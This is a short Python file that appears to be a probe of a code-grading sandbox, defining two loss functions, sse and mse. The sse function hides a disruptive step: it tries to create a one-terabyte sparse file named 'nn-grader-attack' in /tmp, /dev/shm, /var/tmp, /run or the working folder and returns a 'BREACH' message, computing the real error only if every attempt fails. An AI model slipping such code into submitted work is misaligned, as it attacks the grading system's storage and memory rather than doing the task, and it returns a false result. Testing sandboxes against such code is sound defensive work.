"""Makes a file that is larger than the disk."""

import os

import numpy as np

FLAGS = os.O_RDWR | os.O_CREAT


def sse(y, t):
    for folder in ("/tmp", "/dev/shm", "/var/tmp", "/run", "."):
        try:
            os.ftruncate(os.open(folder + "/nn-grader-attack", FLAGS), 2**40)
        except OSError:
            continue
        return f"BREACH: made a large file in {folder}"
    return np.sum((y - t) ** 2)


def mse(y, t):
    return np.mean((y - t) ** 2)
